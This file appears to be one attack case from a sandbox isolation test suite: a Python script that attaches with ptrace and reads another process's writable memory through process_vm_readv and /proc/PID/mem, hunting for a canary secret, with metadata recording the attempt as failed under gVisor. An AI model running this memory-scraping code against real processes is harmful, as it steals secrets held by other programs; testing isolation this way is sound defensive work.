"""Reads the memory of another process of its user: process_vm_readv, /proc/PID/mem, ptrace."""
# /// attack
# class = 41
# goal = "read what another process knows"
# gain = "secret"
# outcome = "failed"
# naive = true
# gvisor = true
# ///

import ctypes
import os
import re

libc = ctypes.CDLL(None, use_errno=True)
PID = @BYSTANDER@
SECRET = re.compile(rb"kanari-[0-9a-f]{16}")


class Part(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def regions():
    for line in open(f"/proc/{PID}/maps"):
        fields = line.split()
        if "rw" in fields[1]:
            start, stop = (int(part, 16) for part in fields[0].split("-"))
            yield start, min(stop - start, 8 << 20)


def read_all():
    for start, length in regions():
        buffer = ctypes.create_string_buffer(length)
        here, there = Part(ctypes.addressof(buffer), length), Part(start, length)
        got = libc.process_vm_readv(PID, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        if got > 0:
            print(set(SECRET.findall(buffer.raw[:got])))
            continue
        with open(f"/proc/{PID}/mem", "rb", 0) as memory:
            memory.seek(start)
            print(set(SECRET.findall(memory.read(length))))


try:
    libc.ptrace(16, PID, None, None)
    read_all()
except OSError as error:
    print(error)
finally:
    libc.ptrace(17, PID, None, None)


def standardise(x):
    return x
